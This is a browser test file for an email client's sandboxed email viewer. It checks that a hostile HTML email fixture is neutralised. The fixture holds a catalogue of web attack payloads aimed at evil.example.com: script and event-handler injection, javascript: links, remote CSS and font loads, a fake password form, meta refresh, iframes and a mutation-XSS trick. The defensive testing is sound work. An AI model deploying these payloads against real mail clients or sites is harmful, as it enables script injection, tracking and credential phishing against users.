import { afterEach, beforeEach, expect, it } from 'vitest';
import { commands, page } from 'vitest/browser';
import { EmailFrame } from '#web/entities/email/email-frame.tsx';
import { button, press } from '../support/components/page.ts';
import { render } from '../support/components/render.tsx';

/** An email that tries everything. None of it may happen. */
const HOSTILE = `<!doctype html>
<html lang="en" onload="parent.hacked=1"><head>
<base href="https://evil.example.com/">
<meta http-equiv="refresh" content="0;url=https://evil.example.com/refresh">
<link rel="stylesheet" href="https://evil.example.com/link.css">
<link rel="preload" as="image" href="https://evil.example.com/preload.png">
<style>@import url(https://evil.example.com/import.css);
@font-face{font-family:evil;src:url(https://evil.example.com/font.woff2)}
p{font-family:evil;background:url(https://evil.example.com/style.png)}</style>
<script>parent.hacked=1;fetch('https://evil.example.com/script')</script>
<script src="https://evil.example.com/script.js"></script>
</head><body onload="parent.hacked=1" background="https://evil.example.com/body.png">
<p id="shown" onclick="parent.hacked=1">A harmless sentence.</p>
<img id="https" src="https://images.example.com/picture.png" alt="picture" onerror="parent.hacked=1">
<img src="http://evil.example.com/insecure.png" alt="insecure">
<img src="x" srcset="http://evil.example.com/set.png 2x" alt="set">
<svg onload="parent.hacked=1"><script>parent.hacked=1</script><image href="http://evil.example.com/svg.png"/></svg>
<math><mtext><style><img src=x onerror="parent.hacked=1"></style></mtext></math>
<form action="https://evil.example.com/form"><input name="password"><button>Sign in again</button></form>
<iframe src="https://evil.example.com/frame"></iframe>
<object data="https://evil.example.com/object"></object><embed src="https://evil.example.com/embed">
<video src="https://evil.example.com/video" poster="http://evil.example.com/poster.png" autoplay></video>
<a id="script" href="javascript:parent.hacked=1">runs a script</a>
<a id="top" href="https://evil.example.com/top" target="_top">replaces the app</a>
<a href="https://evil.example.com/ping" ping="https://evil.example.com/pinged">pings</a>
</body></html>`;

const TITLE = 'A hostile email';
const inFrame = (expression: string) => commands.inFrame(TITLE, expression);
const frame = () => page.frameLocator(page.getByTitle(TITLE));
const hacked = () => 'hacked' in window;
const here = location.href;

beforeEach(async () => {
  await commands.watchRequests();
  render(<EmailFrame html={HOSTILE} width={600} scheme="light" title={TITLE} />);
  await expect.poll(() => inFrame('root.innerText')).toContain('A harmless sentence.');
});

/** It has done nothing to the page that shows it. */
afterEach(() => {
  expect(hacked()).toBe(false);
  expect(location.href).toBe(here);
});

it('a hostile email runs nothing, loads nothing and leads nowhere', async () => {
  // It tries: the last thing that the browser refuses has been refused.
  const refused = async (name: string) => (await commands.requests()).refused.some(url => url.endsWith(name));
  await expect.poll(() => refused('picture.png')).toBe(true);
  await expect.poll(() => refused('font.woff2')).toBe(true);
  const forbidden =
    'script, svg, math, form, input, button, iframe, object, embed, video, link, meta[http-equiv=refresh], base[href]';
  expect(await inFrame(`[...root.querySelectorAll('${forbidden}')].map(({ tagName }) => tagName)`)).toEqual(
    [],
  );
  const attributes = await inFrame(
    `[root, ...root.querySelectorAll('*')].flatMap(element => element.getAttributeNames())`,
  );
  expect((attributes as string[]).filter(name => /^on|^ping$/.test(name))).toEqual([]);
  await frame().getByText('A harmless sentence.').click();
  await frame().getByText('runs a script').click();
  expect(await inFrame(`root.querySelector('#script').getAttribute('href')`)).toBeNull();
  expect(await commands.requests()).toMatchObject({ left: [], tabs: [] });
});

it('its links open in a new tab, which knows nothing of the app', async () => {
  await frame().getByText('replaces the app').click();
  const tab = 'https://evil.example.com/top';
  await expect.poll(async () => (await commands.requests()).tabs).toEqual([tab]);
  expect(await commands.closeTab(tab)).toEqual([null, '']);
  expect((await commands.requests()).left).toEqual([tab]);
});

it('even without its own cleaning, the sandbox and the policy hold', async () => {
  const element = page.getByTitle(TITLE).element() as HTMLIFrameElement;
  const head = element.srcdoc.match(/^.*?base-uri 'none'">/s)?.[0] ?? '';
  expect(head).toMatch(/^<!doctype html><html[^>]*><head><meta http-equiv="Content-Security-Policy"/);
  element.srcdoc = `${head}<script>parent.hacked=1</script>
    <img src="http://evil.example.com/a.png" onerror="parent.hacked=1">
    <form action="https://evil.example.com/form"><button>Send</button></form>
    <meta http-equiv="refresh" content="0;url=https://evil.example.com/refresh">
    <iframe src="https://evil.example.com/frame"></iframe><p>uncleaned</p>`;
  await expect.poll(() => inFrame('root.innerText')).toContain('uncleaned');
  await frame().getByRole('button', { name: 'Send' }).click();
  expect(await commands.requests()).toMatchObject({ left: [], tabs: [] });
});

it('images are loaded when the reader wants them, only those by https', async () => {
  expect((await commands.requests()).left).toEqual([]);
  await press('Load images');
  const left = async () => (await commands.requests()).left;
  await expect.poll(left).toContain('https://images.example.com/picture.png');
  await expect.poll(() => inFrame('root.innerText')).toContain('A harmless sentence.');
  const paths = (await left()).map(url => new URL(url).pathname);
  for (const never of ['/import.css', '/font.woff2', '/script.js', '/frame', '/video', '/link.css']) {
    expect(paths).not.toContain(never);
  }
  expect((await left()).filter(url => url.startsWith('http:'))).toEqual([]);
  await expect.element(button('Load images')).not.toBeInTheDocument();
});
